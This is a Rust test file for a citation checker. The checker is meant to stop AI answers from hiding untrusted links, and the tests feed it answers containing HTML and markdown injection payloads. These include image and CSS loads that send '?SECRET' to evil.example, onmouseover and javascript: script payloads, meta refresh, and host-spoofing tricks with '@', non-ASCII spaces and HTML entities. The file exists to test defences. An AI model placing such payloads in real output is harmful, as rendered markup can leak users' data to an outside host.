//! Addresses that a hostile answer must not hide from the citation check.

use textsearch_kernel::{
    citations::{CitationKind, Sources, check_citations},
    textsearch_core::TextSearchResult,
};

fn sources() -> Sources {
    let found = [
        TextSearchResult::new("a").with_name("Known 1").with_link("https://known.example/1"),
        TextSearchResult::new("b").with_name("The licence").with_link("LICENSE"),
        TextSearchResult::new("c").with_link("https://host.example"),
    ];
    found.iter().collect()
}

fn unsupported(answer: &str) -> Vec<String> {
    let citations = check_citations(answer, &sources());
    citations.into_iter().filter(|one| !one.is_supported()).map(|one| one.target).collect()
}

fn first_source(answer: &str) -> Option<usize> {
    check_citations(answer, &sources()).first().unwrap().source
}

#[track_caller]
fn assert_reports(answer: &str, target: &str) {
    let found = unsupported(answer);
    assert!(found.iter().any(|one| one == target), "{answer}: {found:?}");
}

#[track_caller]
fn assert_refused(answer: &str) {
    let citations = check_citations(answer, &sources());
    let refused = citations.iter().find(|one| one.kind == CitationKind::Html);
    assert!(refused.is_some_and(|one| !one.is_supported()), "{answer}: {citations:?}");
}

#[test]
fn fake_attributes_hide_no_address() {
    for (answer, target) in [
        (
            "read <a title='src=\"https://known.example/1#' href=\"//evil.example/x\">this</a>",
            "//evil.example/x",
        ),
        (
            "so <img alt='src=\"LICENSE#' src=https://evil.example/pixel.png title=\"\">",
            "https://evil.example/pixel.png",
        ),
        (
            "<div>src=\"https://known.example/1# <a href=https://evil.example/x>read</a> \"</div>",
            "https://evil.example/x",
        ),
        (
            "<!-- src=\"https://known.example/1# --> <a href=https://evil.example/x>read</a> <i title=\"\">",
            "https://evil.example/x",
        ),
        (
            "<p>src='https://known.example/1#\n![](https://evil.example/x)</p>",
            "https://evil.example/x",
        ),
        (
            "<div>src='https://known.example/1# https://evil.example/x '</div>",
            "https://evil.example/x",
        ),
    ] {
        assert_reports(answer, target);
    }
}

#[test]
fn an_attribute_with_markup_in_it_is_refused() {
    for address in ["https://known.example/1#<a", "https://known.example/1#>", "/1#`"] {
        assert_refused(&format!("<a href=\"{address}\">x</a>"));
    }
    assert_refused(
        "<div>src=https://known.example/1#<a/href=https://evil.example/x>read</a></div>",
    );
}

#[test]
fn markup_that_continues_in_markdown_is_refused() {
    for answer in [
        "<iframe title='\n\n' src=//evil.example/?SECRET x",
        "<link title='\n\n' rel=stylesheet href=//evil.example/x x",
        "<div title='\n\n' onmouseover=alert(1) x",
        "<div title='\n\n`' onmouseover=alert(1) x`",
        "<div title='\n\n' style=background:url(//evil.example/x) x",
        "<div><style>\n\n{} body{background:url(//evil.example/x)}",
        "a <style> `{} body{background:url(//evil.example/x)}`",
        "<svg><a><animate attributeName=href values=\"javascript:alert(1)\"/>",
        "<svg><set attributeName=href to=\"/\\evil.example/x\"/>",
        "<meta http-equiv=refresh content=\"0;\\\\evil.example/x\">",
        "<img attributionsrc=\"\\\\evil.example/x\">",
        "<p><applet code=x></p>",
    ] {
        assert_refused(answer);
    }
}

#[test]
fn non_ascii_white_space_is_part_of_a_link() {
    for answer in [
        "<a href=https://host.example\u{a0}@evil.example/x>x</a>",
        "See https://host.example\u{a0}@evil.example/x",
        "<img src=https://known.example/1\u{a0}?q=SECRET>",
        "See https://known.example/1\u{a0}?q=SECRET",
        "![](https://known.example/1\u{2000}\u{2001}\u{2000})",
        "[x](<https://known.example/1\u{2003}>)",
    ] {
        assert_ne!(unsupported(answer), [""; 0], "{answer}");
    }
    assert_eq!(unsupported("https://known.example/1\u{a0}; so"), [""; 0]);
}

#[test]
fn a_sources_address_in_html_is_cited_once() {
    for answer in [
        "<a href=\"https://known.example/1#part\">x</a>",
        "<a href=' https://known.example/1 '>x</a>",
        "<a href=https://known.example/1>x</a>",
        "<p><a href=\"//known.example/1\">x</a></p>",
        "<p>https://known.example/1</p>",
    ] {
        let citations = check_citations(answer, &sources());
        let found: Vec<_> = citations.iter().map(|one| one.source).collect();
        assert_eq!(found, [Some(1)], "{answer}");
    }
    let found = [TextSearchResult::new("a").with_link("https://known.example/Ada's_page")];
    let answer = "<a href=\"https://known.example/Ada's_page\">x</a>";
    assert!(check_citations(answer, &found.iter().collect())[0].is_supported());
}

#[test]
fn a_link_to_any_host_counts_in_text() {
    for link in [
        "https://пример.рф/x",
        "https://evil.中国/x",
        "https://a_b.evil.example/y",
        "http://2130706433/x",
        "HTTPS://evil_.example",
        "http://[::1]/x",
        "www.evil_x.example/y",
    ] {
        for answer in [format!("See {link}"), format!("(see **{link}**)"), format!("<p>{link}</p>")]
        {
            assert_eq!(unsupported(&answer), [link], "{answer}");
        }
    }
}

#[test]
fn a_host_that_continues_after_its_apparent_end_differs() {
    for link in ["https://host.example\"@evil.example/x", "https://host.example'@evil.example"] {
        assert_eq!(unsupported(&format!("See {link}")), [link]);
    }
    for answer in
        ["\"https://host.example\".", "(https://host.example)", "https://host.example, so"]
    {
        assert_eq!(first_source(answer), Some(3), "{answer}");
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn a_link_prefix_alone_is_no_link() {
    for answer in ["http://", "It begins with https:// or www.", "www...", "<p>a // b (//)</p>"] {
        assert_eq!(check_citations(answer, &sources()), [], "{answer}");
    }
}

#[test]
fn html_that_loads_resources_is_refused() {
    for answer in [
        "<div style=\"background:url(//evil.example/x)\">a</div>",
        "<b style=\"background:\\75rl(/\\/evil.example/x)\">a</b>",
        "<b style='background:image-set(\"/x.png\" 1x)'>a</b>",
        "<style>\n@import '//evil.example/x';\n</style>",
        "so <style>@import url(/x.css);</style>",
        "<img data-src=//evil.example/x>",
        "<meta http-equiv=refresh content=\"0; url=/x\">",
    ] {
        assert_refused(answer);
    }
}

#[test]
fn a_word_that_equals_a_file_link_is_no_support() {
    let source = |definition: &str| first_source(&format!("So.[^1]\n\n[^1]: {definition}\n"));
    assert_eq!(source("Smith 2019, under the LICENSE of Nature."), None);
    assert_eq!(source("Smith 2019, under the LICENSE/ of Nature."), None);
    assert_eq!(source("Smith 2019, under the LICENSE#/ of Nature."), None);
    assert_eq!(source("LICENSE"), Some(2));
    assert_eq!(source("`LICENSE`."), Some(2));
    assert_eq!(source("See ./LICENSE"), Some(2));
}

#[test]
fn the_first_definition_of_a_label_counts() {
    assert_eq!(first_source("So.[^a]\n\n[^a]: Smith 2019\n\n[^a]: Known 1\n"), None);
    assert_eq!(first_source("So.[^a]\n\n[^a]: Known 1\n\n[^a]: Smith 2019\n"), Some(1));
    assert_eq!(first_source("So.[^A]\n\n[^a]: Known 1\n"), Some(1));
}

#[test]
fn a_definition_continues_after_a_nested_one() {
    for inner in ["[^2]: x", "- [^2]: x", "> [^2]: x", "[^2]: x\n\n        [^3]: y"] {
        let answer = format!("So.[^1]\n\n[^1]: Known 1\n\n    {inner}\n\n    says Smith 2019\n");
        assert_eq!(first_source(&answer), None, "{answer}");
    }
    let answer = "So.[^2]\n\n[^1]: Smith 2019\n\n[^2]: Known 1\n";
    assert_eq!(first_source(answer), Some(1));
}

#[test]
fn separate_texts_do_not_form_one_name() {
    for definition in [
        "- Kno\n    - wn 1",
        "Kno\n\n    wn 1",
        "Kno<br>wn 1",
        "Known 1\n\n    ```\n    not\n    ```",
    ] {
        let answer = format!("So.[^a]\n\n[^a]: {definition}\n");
        assert_eq!(first_source(&answer), None, "{definition}");
    }
    for definition in ["*Known* 1", "Known\n    1", "<b>Known</b> 1"] {
        let answer = format!("So.[^a]\n\n[^a]: {definition}\n");
        assert_eq!(first_source(&answer), Some(1), "{definition}");
    }
}

#[test]
fn leading_zeros_of_a_numeric_label_do_not_count() {
    assert_eq!(first_source("So.[^01]\n\n[^1]: Smith 2019\n"), None);
    assert_eq!(first_source("So.[^1]\n\n[^01]: Smith 2019\n"), None);
    assert_eq!(first_source("So.[^01]\n\n[^1]: The licence\n"), Some(2));
    assert_eq!(first_source("So.[^01]\n\n[^1]: Known 1\n\n[^01]: Smith 2019\n"), None);
    assert_eq!(first_source("So.[^02]"), Some(2));
}

#[test]
fn escapes_in_html_hide_no_address() {
    for (answer, target) in [
        ("<a href=\"https:&sol;&sol;evil.example\">x</a>", "https://evil.example"),
        ("<a href=https&colon;&#x2f;&#47evil.example>x</a>", "https://evil.example"),
        ("<p><img src='&#104ttps://evil.example/x'></p>", "https://evil.example/x"),
        ("<p>https&colon;//evil.example/x</p>", "https://evil.example/x"),
        ("<a href=\"https&#58;//evil.example\">x</a>", "https://evil.example"),
    ] {
        assert_reports(answer, target);
    }
}

#[test]
fn programs_in_html_are_never_supported() {
    let link = "https://known.example/1";
    assert_refused(&format!("<b onclick=\"location='{link}'\">x</b>"));
    assert_refused(&format!("<p onload={link}>x</p>"));
    assert_refused(&format!("<iframe srcdoc=\"{link}\">x</iframe>"));
    assert_refused("<script>\nlocation = name\n</script>");
}

#[test]
fn a_host_that_continues_in_emphasis_differs() {
    for (answer, target) in [
        ("https://known.example*a@evil.example/*x", "https://known.example*a@evil.example/*x"),
        ("https://host.example*a@evil.example/x*", "https://host.examplea@evil.example/x"),
        ("https://host.example**a.evil.example**", "https://host.examplea.evil.example"),
        ("*https://host.example*.evil.example", "https://host.example.evil.example"),
        ("https://host.example<b></b>.evil.example", "https://host.example.evil.example"),
    ] {
        assert_reports(answer, target);
    }
    for answer in [
        "*https://host.example*, so",
        "https://known.example/1<br>so",
        "**https://host.example**<br>so",
    ] {
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn a_footnote_is_also_read_as_a_reference() {
    for (answer, target) in [
        (
            "![^1]\n\n[^1]: //evil.example/x?SECRET \"https://known.example/1\"",
            "//evil.example/x?SECRET",
        ),
        (
            "so [^a]\n\n[^a]: https:evil.example/x?SECRET \"https://known.example/1\"",
            "https:evil.example/x?SECRET",
        ),
        ("[^1]: ```\n![](//evil.example/x)\n```\n", "//evil.example/x"),
        ("$`$ ![](//evil.example/x) $`$", "//evil.example/x"),
        ("---\n```\n---\n![](//evil.example/x)\n```\n", "//evil.example/x"),
        ("`\n|a|\n|-|\n| `![](//evil.example/x)` |\n", "//evil.example/x"),
    ] {
        assert_reports(answer, target);
    }
    assert_refused("[^1]: ```\n<svg onload=x>\n```\n");
}

#[test]
fn an_ordinary_answer_reads_the_same_in_each_dialect() {
    for answer in [
        "So.[^1]\n\n[^1]: https://known.example/1\n",
        "So.[^1]\n\n[^1]: LICENSE\n",
        "So.[^1]\n\n[^1]: [Known](https://known.example/1), page 2\n",
        "|a|b|\n|-|-|\n|https://known.example/1|b|\n|https://host.example|https://known.example/1.|\n",
        "---\ntitle: a\n---\n\nIt costs $5, not $6: https://known.example/1\n\nterm\n: what it is\n",
    ] {
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn a_url_in_code_that_is_rendered_is_reported() {
    for (code, target) in [
        (
            "```mermaid\nA[\"<img src='https://evil.example/?q=S'>\"]\n```",
            "https://evil.example/?q=S",
        ),
        ("~~~ {.html}\n<img src=//evil.example/x>\n~~~", "//evil.example/x"),
        ("```svg\n<image href=\"&#104;ttps://evil.example/x\"/>\n```", "https://evil.example/x"),
        ("```math\n\\href{https:evil.example/x}{y}\n```", "https:evil.example/x"),
        ("```dot\na [URL=\"\\\\evil.example/x\"]\n```", "\\\\evil.example/x"),
        (
            "```Html title=x\n<img src=\"https://known.example/1'?q=S\">\n```",
            "https://known.example/1'?q=S",
        ),
    ] {
        assert_reports(code, target);
    }
    for code in [
        "```svg\n<svg xmlns=\"http://www.w3.org/2000/svg\"><a href='https://known.example/1'/></svg>\n```",
        "```html\n<!-- a // b --><script>// say http: and c://d</script>\n```",
        "```mermaid\ngraph TD\n A[a] --> B[b] %% // x\n```",
        "```rust\nlet url = \"https://evil.example\"; // x\n```",
        "```latex\na \\\\ b \\\\[1ex] c \\\\x\n```",
    ] {
        assert_eq!(unsupported(code), [""; 0], "{code}");
    }
}

#[test]
fn a_link_that_continues_after_punctuation_differs() {
    for link in [
        "https://known.example/1*q=SECRET",
        "https://known.example/1|?q=SECRET",
        "https://known.example/1\"?q=SECRET",
        "https://known.example/1)?q=SECRET",
        "https://known.example/1`?q=SECRET`/",
        "https://known.example/1**[1234]x",
        "https://known.example/1[](y)x",
    ] {
        for answer in [format!("See {link}"), format!("a &amp; b ({link})"), format!("_{link} x_")]
        {
            assert_reports(&answer, link);
        }
    }
    for answer in [
        "\"https://known.example/1\".",
        "(see https://known.example/1), so",
        "**https://known.example/1**.[1] [2]",
        "(https://known.example/1)[1][^2].",
        "“https://known.example/1 ” \"https://known.example/1\"。",
        "- `https://known.example/1`\n- _https://known.example/1_:\n- https://known.example/1<sup>1</sup>",
        "[(https://known.example/1)](https://known.example/1)x",
    ] {
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn markdown_inside_html_is_reported() {
    for answer in [
        "a <!-- ![x](https://evil.example/?s) --> b",
        "<!--\n\n![x](//evil.example/?s)\n\n-->",
        "<div>\n![x](//evil.example/?s)\n</div>",
        "<pre>\n![x](//evil.example/?s)\n</pre>",
        "<b title=\"![x](//evil.example/?s)\">y</b>",
        "<ul><li>![x](//evil.example/?s)</li></ul>",
        "(<!-- ![x](//evil.example/?s) -->)",
        "<blockquote>\n[x][1]\n\n[1]: //evil.example/?s\n</blockquote>",
    ] {
        assert!(
            unsupported(answer).iter().any(|target| target.contains("//evil.example/?s")),
            "{answer}: {:?}",
            unsupported(answer)
        );
    }
}

#[test]
fn known_links_next_to_html_stay_supported() {
    for answer in [
        "<b>See</b> <https://known.example/1> and [it](<https://known.example/1>).",
        "1 < 2, see [page](https://known.example/1) <br> again",
    ] {
        assert_eq!(unsupported(answer), [""; 0], "{answer}");
    }
}

#[test]
fn links_in_formulas_are_reported() {
    assert_reports("$\\href{//evil.example/x}{x}$", "//evil.example/x");
}
